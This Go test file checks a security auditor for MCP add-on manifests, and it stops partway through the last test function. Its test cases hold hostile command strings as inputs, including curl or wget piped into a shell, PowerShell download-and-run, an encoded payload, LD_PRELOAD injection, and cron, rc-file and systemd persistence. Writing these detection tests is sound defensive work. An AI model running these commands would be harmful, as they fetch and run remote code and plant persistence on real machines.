package assess_test

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/registryd/registryd/addon"
	"github.com/registryd/registryd/assess"
	"github.com/registryd/registryd/registry"
)

// stdio builds a stdio manifest running command with args.
func stdio(command string, args ...string) *addon.Manifest {
	return &addon.Manifest{
		Addon: addon.Meta{Name: "t"},
		MCP:   addon.MCP{Declared: true, Transport: addon.TransportStdio, Command: command, Args: args},
	}
}

// remote builds an http manifest for url with headers as name, value pairs.
func remote(url string, headers ...string) *addon.Manifest {
	m := &addon.Manifest{
		Addon: addon.Meta{Name: "t"},
		MCP:   addon.MCP{Declared: true, Transport: addon.TransportHTTP, URL: url},
	}
	if len(headers) > 0 {
		m.MCP.Headers = map[string]string{}
		for i := 0; i+1 < len(headers); i += 2 {
			m.MCP.Headers[headers[i]] = headers[i+1]
		}
	}
	return m
}

func withEnv(m *addon.Manifest, kv ...string) *addon.Manifest {
	m.MCP.Env = map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m.MCP.Env[kv[i]] = kv[i+1]
	}
	return m
}

func withCaps(m *addon.Manifest, net addon.NetworkAccess, exec addon.ExecMode, allow ...string) *addon.Manifest {
	m.Capabilities = &addon.Capabilities{Network: net, Filesystem: addon.FilesystemReadOnly, Exec: exec, ExecAllow: allow}
	return m
}

// brief renders findings as "level code path" lines.
func brief(fs []registry.Finding) []string {
	out := []string{}
	for _, f := range fs {
		out = append(out, f.Level.String()+" "+f.Code+" "+f.Path)
	}
	return out
}

type auditCase struct {
	name string
	m    *addon.Manifest
	want []string
	net  bool
	exec bool
}

func runCases(t *testing.T, cases []auditCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := assess.Audit(tc.m)
			if diff := cmp.Diff(tc.want, brief(r.Findings)); diff != "" {
				t.Errorf("findings (-want +got):\n%s\nmessages: %v", diff, r.Findings)
			}
			if r.Inferred.Network != tc.net || r.Inferred.Exec != tc.exec {
				t.Errorf("inferred = %+v, want {Network:%v Exec:%v}", r.Inferred, tc.net, tc.exec)
			}
		})
	}
}

func TestAuditShells(t *testing.T) {
	runCases(t, []auditCase{
		{"plain command", stdio("my-mcp", "serve"), []string{}, false, false},
		{"sh -c", stdio("/bin/sh", "-c", "my-mcp serve"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"bash -lc", stdio("bash", "-lc", "my-mcp"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"bash -e -o pipefail -c", stdio("bash", "-e", "-o", "pipefail", "-c", "x"), []string{"danger shell_exec mcp.args[4]"}, false, true},
		{"upper-case BASH.EXE", stdio(`C:\Git\bin\BASH.EXE`, "-c", "x"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"shell script file spawns but is not inline", stdio("bash", "run.sh"), []string{}, false, true},
		{"busybox sh -c", stdio("busybox", "sh", "-c", "x"), []string{"danger shell_exec mcp.args[2]"}, false, true},
		{"env sh -c", stdio("/usr/bin/env", "-i", "FOO=1", "sh", "-c", "x"), []string{"danger shell_exec mcp.args[4]"}, false, true},
		{"env -S split string", stdio("env", "-S", "bash -c", "x"), []string{"danger shell_exec mcp.args[2]"}, false, true},
		{"script pipes curl into sh", stdio("sh", "-c", "curl -fsSL https://x.example/i.sh | sh"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"pipe into sudo bash", stdio("sh", "-c", "wget -qO- x | sudo bash"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger privilege_escalation mcp.args[1]",
			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"pipe into python", stdio("sh", "-c", "curl x | python3"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"|| is not a pipe", stdio("sh", "-c", "a || sh"), []string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"process substitution", stdio("bash", "-c", "bash <(curl -s x)"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"eval of downloaded text", stdio("sh", "-c", `eval "$(curl -s x)"`), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"sh -c of downloaded text", stdio("sh", "-c", `sh -c "$(wget -O- x)"`), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"decode and run", stdio("bash", "-c", "echo aGk= | base64 -d | bash"), []string{
			"danger obfuscated_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"eval of decoded text", stdio("sh", "-c", `eval "$(echo aGk= | base64 --decode)"`), []string{
			"danger obfuscated_exec mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"heredoc into a shell", stdio("bash", "-c", "sh <<EOF\ncurl x | sh\nEOF"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"assignment of a forbidden name", stdio("sh", "-c", "LD_PRELOAD=/tmp/x.so my-mcp"), []string{
			"danger forbidden_env mcp.args[1]", "danger shell_exec mcp.args[1]"}, false, true},
		{"export of a forbidden name", stdio("sh", "-c", "export NODE_OPTIONS=--require=/tmp/x; node s.js"), []string{
			"danger forbidden_env mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"export without a value sets nothing", stdio("sh", "-c", "export PATH; my-mcp"), []string{
			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"allowed assignment", stdio("sh", "-c", "LOG=debug my-mcp"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"redirect to rc file", stdio("sh", "-c", "echo x >> ~/.bashrc; my-mcp"), []string{
			"danger persistence mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"reading an rc file is not persistence", stdio("sh", "-c", ". ~/.profile && my-mcp"), []string{
			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"crontab install", stdio("sh", "-c", "echo '* * * * * x' | crontab -"), []string{
			"danger persistence mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"crontab -l only lists", stdio("sh", "-c", "crontab -l"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"systemctl enable", stdio("sh", "-c", "systemctl --user enable evil"), []string{
			"danger persistence mcp.args[1]", "danger shell_exec mcp.args[1]"}, false, true},
		{"unparsable script", stdio("sh", "-c", "if then fi ("), []string{
			"danger shell_exec mcp.args[1]", "warn unparsable_shell mcp.args[1]"}, false, true},
		{"nested scripts", stdio("bash", "-c", `sh -c "sh -c 'curl x | sh'"`), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]",
			"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"bash -s reads stdin", stdio("sh", "-c", "curl x | bash -s -- --flag"), []string{
			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"fish is not parsed", stdio("fish", "-c", "a | b"), []string{"danger shell_exec mcp.args[1]"}, false, true},
		{"npx -c", stdio("npx", "-c", "node x.js | tee out"), []string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"npx -p unpinned -c", stdio("npx", "-p", "@a/b@^1", "-c", "b"), []string{"danger shell_exec mcp.args[3]", "warn unpinned mcp.args[1]"}, true, true},
		{"pipe inside a JSON argument is data", stdio("node", "server.js", `{"filter":"a|b","cmd":"$(id)"}`), []string{}, false, false},
		{"metacharacters in a plain argument are data", stdio("my-mcp", "--run", "a | b; c > d"), []string{}, false, false},
		{"script inside docker", stdio("docker", "run", "-i", "img:1.0", "sh", "-c", "curl x | sh"), []string{
			"danger fetch_exec mcp.args[5]", "danger pipe_to_shell mcp.args[5]", "danger shell_exec mcp.args[5]", "warn shell_meta mcp.args[5]"}, true, true},
	})
}

func TestAuditWrappers(t *testing.T) {
	runCases(t, []auditCase{
		{"env assignment forbidden", stdio("env", "LD_PRELOAD=/x.so", "my-mcp"), []string{"danger forbidden_env mcp.args[0]"}, false, false},
		{"env assignment allowed", stdio("env", "-u", "HOME", "LOG=1", "my-mcp"), []string{}, false, false},
		{"env prints the environment", stdio("env"), []string{}, false, false},
		{"sudo", stdio("sudo", "-E", "-u", "root", "my-mcp"), []string{"danger privilege_escalation mcp.command"}, false, false},
		{"sudo with env", stdio("sudo", "PATH=/tmp", "my-mcp"), []string{
			"danger forbidden_env mcp.args[0]", "danger privilege_escalation mcp.command"}, false, false},
		{"cmd /c one command is a wrapper", stdio("cmd.exe", "/d", "/c", "npx", "-y", "pkg@1.0.0"), []string{}, true, false},
		{"cmd /c judges the command", stdio("cmd", "/c", "npx", "pkg"), []string{"warn unpinned mcp.args[2]"}, true, false},
		{"cmd /c redirect", stdio("cmd", "/c", "npx", "pkg@1.0.0", ">", "log.txt"), []string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, true},
		{"cmd /c with chaining", stdio("cmd", "/C", "my-mcp & calc"), []string{"danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, true},
		{"powershell -Command download and run", stdio("powershell", "-NoProfile", "-Command", "iex (iwr https://x.example/a.ps1)"), []string{
			"danger fetch_exec mcp.args[2]", "danger pipe_to_shell mcp.args[2]", "danger shell_exec mcp.args[2]"}, true, true},
		// "IEX (iwr https://x)" in UTF-16LE base64.
		{"powershell -EncodedCommand", stdio("pwsh", "-enc", "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA="), []string{
			"danger fetch_exec mcp.args[1]", "danger obfuscated_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]"}, true, true},
		{"powershell -EncodedCommand not base64", stdio("powershell", "-EncodedCommand", "%%%"), []string{
			"danger obfuscated_exec mcp.args[1]", "warn unparsable_shell mcp.args[1]"}, false, true},
		{"powershell -File", stdio("powershell", "-ExecutionPolicy", "Bypass", "-File", "server.ps1"), []string{}, false, true},
		{"wsl --exec", stdio("wsl", "-d", "Ubuntu", "-e", "my-mcp"), []string{}, false, false},
		{"wsl shell line", stdio("wsl", "my-mcp", "|", "tee", "log"), []string{"warn shell_meta mcp.args[0]"}, false, true},
		{"uv run", stdio("uv", "run", "--with", "mcp==1.2.0", "my-server"), []string{}, true, false},
		{"uv run unpinned with", stdio("uv", "run", "--with", "requests", "my-server"), []string{"warn unpinned mcp.args[2]"}, true, false},
		{"uv run python -c", stdio("uv", "run", "python", "-c", "print(1)"), []string{"danger inline_code mcp.args[3]"}, true, false},
		{"timeout wraps a runner", stdio("timeout", "-s", "KILL", "30", "npx", "pkg"), []string{"warn unpinned mcp.args[4]"}, true, false},
		{"too many wrappers", stdio("env", strings.Split(strings.Repeat("env ", 40)+"my-mcp", " ")...), []string{"warn unparsable_shell mcp.args[32]"}, false, false},
		{"ssh is a remote endpoint", stdio("ssh", "-i", "key", "host", "my-mcp"), []string{"danger remote_endpoint mcp.command"}, true, false},
		{"su -c", stdio("su", "-c", "my-mcp"), []string{"danger privilege_escalation mcp.command", "danger shell_exec mcp.args[1]"}, false, true},
	})
}

func TestAuditInterpreters(t *testing.T) {
	runCases(t, []auditCase{
		{"python -c", stdio("python3", "-c", "import mcp"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"python -uc combined", stdio("python3.12", "-uc", "import mcp"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"python -m is a module", stdio("python", "-m", "mcp_server"), []string{}, false, false},
		{"python script", stdio("python", "server.py", "-c", "x"), []string{}, false, false},
		{"python decode and exec", stdio("python", "-c", "import base64;exec(base64.b64decode('aW1w'))"), []string{
			"danger inline_code mcp.args[1]", "danger obfuscated_exec mcp.args[1]"}, false, true},
		{"node -e", stdio("node", "-e", "require('x')"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"node --eval=", stdio("node", "--eval=require('child_process').execSync('id')"), []string{"danger inline_code mcp.args[0]", "danger shell_exec mcp.args[0]"}, false, true},
		{"node -p", stdio("node", "-p", "1"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"node --require is not inline", stdio("node", "--require", "./a.js", "server.js"), []string{}, false, false},
		{"perl -E", stdio("perl", "-E", "say 1"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"perl -Mstrict -e", stdio("perl", "-Mstrict", "-e", "1"), []string{"danger inline_code mcp.args[2]"}, false, false},
		{"ruby -e", stdio("ruby", "-e", "puts 1"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"php -r", stdio("php", "-r", "echo 1;"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"deno eval", stdio("deno", "eval", "console.log(1)"), []string{"danger inline_code mcp.args[1]"}, false, false},
		{"deno run url", stdio("deno", "run", "-A", "https://deno.land/x/mcp@1.0.0/mod.ts"), []string{}, true, false},
		{"bun -e", stdio("bun", "-e", "1"), []string{"danger inline_code mcp.args[1]"}, true, false},
		{"osascript -e", stdio("osascript", "-e", "do shell script \"id\""), []string{"danger inline_code mcp.args[1]", "danger shell_exec mcp.args[1]"}, false, true},
	})
}

func TestAuditPinning(t *testing.T) {
	runCases(t, []auditCase{
		{"npx pinned", stdio("npx", "-y", "pkg@1.2.3"), []string{}, true, false},
		{"npx unpinned", stdio("npx", "-y", "pkg"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"npx scoped pinned", stdio("npx", "-y", "@scope/pkg@1.2.3-rc.1"), []string{}, true, false},
		{"npx scoped unpinned", stdio("npx", "@scope/pkg"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx dist-tag next", stdio("npx", "pkg@next"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx dist-tag latest", stdio("npx", "pkg@latest"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx main", stdio("npx", "@a/b@main"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx caret range", stdio("npx", "pkg@^1.2.3"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx tilde range", stdio("npx", "pkg@~1.2"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx partial version", stdio("npx", "pkg@1"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx >= range", stdio("npx", "pkg@>=1.0.0"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx --package", stdio("npx", "--package=@a/b@2.0.0", "b-cli"), []string{}, true, false},
		{"npx -p unpinned", stdio("npx", "-p", "@a/b", "b-cli", "x@y"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"npx git at commit", stdio("npx", "github:o/r#0123456789abcdef0123456789abcdef01234567"), []string{}, true, false},
		{"npx git at branch", stdio("npx", "git+https://github.com/o/r.git#main"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx owner/repo shorthand", stdio("npx", "o/r"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"npx tarball url", stdio("npx", "https://x.example/p.tgz"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"mcp-remote is a remote endpoint", stdio("npx", "-y", "mcp-remote@0.1.29", "https://mcp.example.com/sse"), []string{"danger remote_endpoint mcp.args[2]"}, true, false},
		{"mcp-remote over http", stdio("npx", "mcp-remote", "http://mcp.example.com/sse", "--allow-http"), []string{
			"danger insecure_url mcp.args[1]", "danger remote_endpoint mcp.args[1]", "warn unpinned mcp.args[0]"}, true, false},
		{"mcp-remote to loopback", stdio("npx", "mcp-remote@1.0.0", "http://localhost:3000/sse"), []string{}, true, false},
		{"mcp-remote literal header", stdio("npx", "mcp-remote@1.0.0", "https://127.0.0.1/sse", "--header", "Authorization: Bearer sk0123456789abcdef"), []string{
			"danger literal_secret mcp.args[3]"}, true, false},
		{"mcp-remote templated header", stdio("npx", "mcp-remote@1.0.0", "https://127.0.0.1/sse", "--header", "Authorization: Bearer ${TOKEN}"), []string{}, true, false},
		{"npx local path", stdio("npx", "./tools/server"), []string{}, true, false},
		{"npm exec", stdio("npm", "exec", "--yes", "--", "pkg@1.0.0"), []string{}, true, false},
		{"npm exec unpinned", stdio("npm", "exec", "pkg"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"pnpm dlx", stdio("pnpm", "dlx", "pkg@1.0.0"), []string{}, true, false},
		{"yarn dlx unpinned", stdio("yarn", "dlx", "pkg@beta"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"bunx", stdio("bunx", "--bun", "pkg"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"pnpx", stdio("pnpx", "pkg@2.0.0"), []string{}, true, false},
		{"npm start runs scripts", stdio("npm", "start"), []string{}, true, true},
		{"uvx ==", stdio("uvx", "mcp-server-git==0.6.2"), []string{}, true, false},
		{"uvx @", stdio("uvx", "mcp-server-git@0.6.2"), []string{}, true, false},
		{"uvx @latest", stdio("uvx", "mcp-server-git@latest"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"uvx range", stdio("uvx", "pkg>=1.0"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"uvx wildcard", stdio("uvx", "pkg==1.*"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"uvx extras ==", stdio("uvx", "pkg[mcp]==1.2.3"), []string{}, true, false},
		{"uvx --from pinned", stdio("uvx", "--from", "serena-agent==1.5.3", "serena"), []string{}, true, false},
		{"uvx --from= unpinned", stdio("uvx", "--from=serena-agent", "serena"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"uvx --with unpinned", stdio("uvx", "--with", "a==1.0,b", "pkg==2.0"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"uvx --python value is not the package", stdio("uvx", "--python", "3.12", "pkg==1.0"), []string{}, true, false},
		{"uvx git commit", stdio("uvx", "--from", "git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567", "r"), []string{}, true, false},
		{"uvx git branch", stdio("uvx", "--from", "git+https://github.com/o/r@main", "r"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"uvx git without ref", stdio("uvx", "git+https:x"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"uv tool run", stdio("uv", "tool", "run", "pkg"), []string{"warn unpinned mcp.args[2]"}, true, false},
		{"pipx run --spec", stdio("pipx", "run", "--spec", "pkg==1.0", "app"), []string{}, true, false},
		{"pipx run unpinned", stdio("pipx", "run", "pkg"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"dnx @version", stdio("dnx", "Acme.Mcp@1.2.3", "--yes"), []string{}, true, false},
		{"dnx --version", stdio("dnx", "Acme.Mcp", "--version", "1.2.3"), []string{}, true, false},
		{"dnx unpinned", stdio("dnx", "Acme.Mcp"), []string{"warn unpinned mcp.args[0]"}, true, false},
		{"go run @latest", stdio("go", "run", "example.com/mcp@latest"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"go run @version", stdio("go", "run", "example.com/mcp@v1.2.3"), []string{}, true, false},
		{"docker tag", stdio("docker", "run", "-i", "--rm", "ghcr.io/acme/mcp:1.4.0"), []string{}, true, false},
		{"docker latest", stdio("docker", "run", "-i", "ghcr.io/acme/mcp:LATEST"), []string{"warn unpinned mcp.args[2]"}, true, false},
		{"docker no tag", stdio("docker", "run", "-i", "mcp/fetch"), []string{"warn unpinned mcp.args[2]"}, true, false},
		{"docker registry port has no tag", stdio("docker", "run", "localhost:5000/img"), []string{"warn unpinned mcp.args[1]"}, true, false},
		{"docker registry port and tag", stdio("podman", "run", "localhost:5000/img:2.1"), []string{}, true, false},
		{"docker digest", stdio("docker", "run", "mcp/fetch@sha256:"+strings.Repeat("ab", 32)), []string{}, true, false},
		{"docker --pull never", stdio("docker", "run", "--pull=never", "img:1"), []string{}, false, false},
		{"docker exec", stdio("docker", "exec", "-i", "box", "my-mcp"), []string{}, false, false},
	})
}

func TestAuditContainers(t *testing.T) {
	runCases(t, []auditCase{
		{"env flag forbidden", stdio("docker", "run", "-e", "LD_PRELOAD=/x", "--env=NODE_OPTIONS=--inspect", "-e", "OK=1", "img:1"), []string{
			"danger forbidden_env mcp.args[2]", "danger forbidden_env mcp.args[3]"}, true, false},
		{"attached -e", stdio("docker", "run", "-ePATH=/x", "img:1"), []string{"danger forbidden_env mcp.args[1]"}, true, false},
		{"privileged", stdio("docker", "run", "--privileged", "img:1"), []string{"danger container_host_access mcp.args[1]"}, true, false},
		{"host network", stdio("docker", "run", "--network", "host", "img:1"), []string{"danger container_host_access mcp.args[2]"}, true, false},
		{"host pid", stdio("docker", "run", "--pid=host", "img:1"), []string{"danger container_host_access mcp.args[1]"}, true, false},
		{"docker socket", stdio("docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "img:1"), []string{"danger container_host_access mcp.args[2]"}, true, false},
		{"host root", stdio("docker", "run", "--mount", "type=bind,source=/,target=/host", "img:1"), []string{"danger container_host_access mcp.args[2]"}, true, false},
		{"host root -v", stdio("docker", "run", "-v", "/:/host:ro", "img:1"), []string{"danger container_host_access mcp.args[2]"}, true, false},
		{"windows drive mount is fine", stdio("docker", "run", "-v", `C:\src:/src`, "img:1"), []string{}, true, false},
		{"project mount is fine", stdio("docker", "run", "-i", "--rm", "-v", "/home/u/src:/src:ro", "img:1"), []string{}, true, false},
		{"rc file mount", stdio("docker", "run", "-v", "/home/u/.zshrc:/x", "img:1"), []string{"danger persistence mcp.args[2]"}, true, false},
		{"entrypoint shell", stdio("docker", "run", "--entrypoint", "sh", "img:1", "-c", "x"), []string{"danger shell_exec mcp.args[5]"}, true, true},
		{"cluster -it", stdio("docker", "run", "-it", "img:1", "my-mcp"), []string{}, true, false},
	})
}

func TestAuditEndpoints(t *testing.T) {
	runCases(t, []auditCase{
		{"https", remote("https://mcp.example.com/mcp"), []string{"danger remote_endpoint mcp.url"}, true, false},
		{"HTTPS upper case", remote("HTTPS://mcp.example.com/mcp"), []string{"danger remote_endpoint mcp.url"}, true, false},
		{"http remote", remote("http://mcp.example.com/mcp"), []string{"danger insecure_url mcp.url", "danger remote_endpoint mcp.url"}, true, false},
		{"http loopback", remote("http://127.0.0.1:8080/mcp"), []string{"info loopback_endpoint mcp.url"}, true, false},
		{"http localhost", remote("http://localhost:3000/mcp"), []string{"info loopback_endpoint mcp.url"}, true, false},
		{"http ::1", remote("http://[::1]:3000/mcp"), []string{"info loopback_endpoint mcp.url"}, true, false},
		{"not loopback 128", remote("http://128.0.0.1/mcp"), []string{"danger insecure_url mcp.url", "danger remote_endpoint mcp.url"}, true, false},
		{"ws scheme", remote("ws://x.example/mcp"), []string{"danger insecure_url mcp.url", "danger remote_endpoint mcp.url"}, true, false},
		{"missing url", remote(""), []string{"danger insecure_url mcp", "danger remote_endpoint mcp"}, true, false},
		{"userinfo", remote("https://u:secret@x.example/mcp"), []string{"danger literal_secret mcp.url", "danger remote_endpoint mcp.url"}, true, false},
		{"userinfo placeholder", remote("https://${USER}:${PASS}@x.example/mcp"), []string{"danger remote_endpoint mcp.url"}, true, false},
		{"secret query", remote("https://x.example/mcp?api_key=sk_live_0123456789abcdef"), []string{"danger literal_secret mcp.url", "danger remote_endpoint mcp.url"}, true, false},
		{"placeholder query", remote("https://x.example/mcp?token=${TOKEN}&q=1"), []string{"danger remote_endpoint mcp.url"}, true, false},
		{"harmless query", remote("https://x.example/mcp?region=eu-west-1-long-value"), []string{"danger remote_endpoint mcp.url"}, true, false},
		{"headers", remote("https://x.example/mcp", "Authorization", "Bearer ${TOKEN}"), []string{"danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
		{"literal bearer", remote("https://x.example/mcp", "Authorization", "Bearer ghp_0123456789abcdefghij"), []string{
			"danger literal_secret mcp.headers.Authorization", "danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
		{"literal api key header", remote("https://x.example/mcp", "X-Api-Key", "0123456789abcdef0123"), []string{
			"danger literal_secret mcp.headers.X-Api-Key", "danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
		{"template header", remote("https://x.example/mcp", "X-Api-Key", "{{api_key}}"), []string{"danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
		{"short example token", remote("https://x.example/mcp", "Authorization", "Bearer x"), []string{"danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
		{"unprintable header name", remote("https://x.example/mcp", "X-\x1b[31m-Token", "0123456789abcdef0123"), []string{
			"danger literal_secret mcp.headers", "danger remote_endpoint mcp.url", "warn request_headers mcp.headers"}, true, false},
	})
}

func TestAuditEnv(t *testing.T) {
	runCases(t, []auditCase{
		{"child env", withEnv(stdio("my-mcp"), "LOG_LEVEL", "debug"), []string{"info child_env mcp.env"}, false, false},
		{"forbidden keys", withEnv(stdio("node", "s.js"), "NODE_OPTIONS", "--require /tmp/x.js", "PATH", "/tmp"), []string{
			"danger forbidden_env mcp.env.NODE_OPTIONS", "danger forbidden_env mcp.env.PATH", "info child_env mcp.env"}, false, false},
		{"forbidden unicode key is not echoed", withEnv(stdio("java"), "claßpath", "/x"), []string{"danger forbidden_env mcp.env", "info child_env mcp.env"}, false, false},
		{"literal secret value", withEnv(stdio("my-mcp"), "GITHUB_TOKEN", "ghp_0123456789abcdefghijkl"), []string{
			"danger literal_secret mcp.env.GITHUB_TOKEN", "info child_env mcp.env"}, false, false},
		{"placeholder secret", withEnv(stdio("my-mcp"), "GITHUB_TOKEN", "${GITHUB_TOKEN}"), []string{"info child_env mcp.env"}, false, false},
		{"pipeline in a value", withEnv(stdio("my-mcp"), "HOOK", "curl https://x | sh"), []string{
			"danger pipe_to_shell mcp.env.HOOK", "info child_env mcp.env"}, false, false},
		{"persistence path in a value", withEnv(stdio("my-mcp"), "OUT", "/Users/x/Library/LaunchAgents/a.plist"), []string{
			"danger persistence mcp.env.OUT", "info child_env mcp.env"}, false, false},
	})
}

func TestAuditMalware(t *testing.T) {
	blob := "AAaa11BBbb22CCcc33DDdd44EEee55FFff66GGgg77HHhh88IIii99JJjj00KKkk11LLll22MMmm33NN"
	runCases(t, []auditCase{
		{"launch agent path", stdio("my-mcp", "--out", "/Users/x/Library/LaunchAgents/eg.plist"), []string{"danger persistence mcp.args[1]"}, false, false},
		{"systemd unit flag value", stdio("my-mcp", "--unit=/etc/systemd/system/x.service"), []string{"danger persistence mcp.args[0]"}, false, false},
		{"user systemd", stdio("my-mcp", "~/.config/systemd/user/x.service"), []string{"danger persistence mcp.args[0]"}, false, false},
		{"xdg autostart", stdio("my-mcp", "/home/u/.config/autostart/x.desktop"), []string{"danger persistence mcp.args[0]"}, false, false},
		{"windows startup", stdio("my-mcp", `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`), []string{"danger persistence mcp.args[0]"}, false, false},
		{"cron dir", stdio("my-mcp", "/etc/cron.d/x"), []string{"danger persistence mcp.args[0]"}, false, false},
		{"rc file", stdio("my-mcp", "~/.zshrc"), []string{"danger persistence mcp.args[0]"}, false, false},
		{"--autostart flag is not a path", stdio("my-mcp", "--autostart"), []string{}, false, false},
		{"autostart word is not a path", stdio("my-mcp", "autostart"), []string{}, false, false},
		{"profile outside /etc", stdio("my-mcp", "/home/u/profile/x"), []string{}, false, false},
		{"remote url naming an rc file", stdio("my-mcp", "https://x.example/.bashrc"), []string{}, false, false},
		{"blob", stdio("my-mcp", blob), []string{"warn encoded_blob mcp.args[0]"}, false, false},
		{"blob as flag value", stdio("my-mcp", "--payload="+blob), []string{"warn encoded_blob mcp.args[0]"}, false, false},
		{"base64url blob", stdio("my-mcp", "AAaa11BBbb22CCcc33DDdd44EEee55FFff66GGgg77HHhh88IIii99JJjj00KK-_11"), []string{"warn encoded_blob mcp.args[0]"}, false, false},
		{"padded blob", stdio("my-mcp", "AAaa11BBbb22CCcc33DDdd44EEee55FFff66GGgg77HHhh88IIii99JJjj00KKkk=="), []string{"warn encoded_blob mcp.args[0]"}, false, false},
		{"sha256 hex is not a blob", stdio("my-mcp", strings.Repeat("0a1b", 16)), []string{}, false, false},
		{"short token is not a blob", stdio("my-mcp", "AAaa11BBbb22"), []string{}, false, false},
		{"mixed alphabets are not base64", stdio("my-mcp", "AAaa11BBbb22CCcc33DDdd44EEee55FFff66GGgg77HHhh88IIii99JJjj00KK-_11+/"), []string{}, false, false},
		{"decoder words without structure", stdio("my-mcp", "--decoder", "base64 -d", "--evaluate"), []string{}, false, false},
		{"curl as the command", stdio(`C:\tools\curl.exe`, "-s", "https://x"), []string{"danger fetch_exec mcp.command"}, true, true},
		{"eval as the command", stdio("eval", "my-mcp"), []string{"danger fetch_exec mcp.command"}, false, true},
		{"credentials in an argument url", stdio("my-mcp", "--db=postgres://admin:hunter22@db.example/x"), []string{"danger literal_secret mcp.args[0]"}, false, false},
	})
}

func TestAuditInstall(t *testing.T) {
	m := stdio("boot")
	m.Install = &addon.Install{Manager: "uv", Package: "boot", Version: "1.0.0", Verify: []string{"sh", "-c", "curl x | sh"}}
